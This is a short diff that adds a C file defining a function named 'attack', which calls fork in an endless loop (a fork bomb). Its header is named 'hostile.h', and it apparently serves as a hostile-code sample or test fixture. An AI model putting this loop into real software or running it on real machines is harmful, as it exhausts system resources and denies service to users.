@@ -1,0 +1,7 @@
+#include "hostile.h"
+
+static void attack(void)
+{
+    for (;;)
+        syscall(SYS_fork);
+}
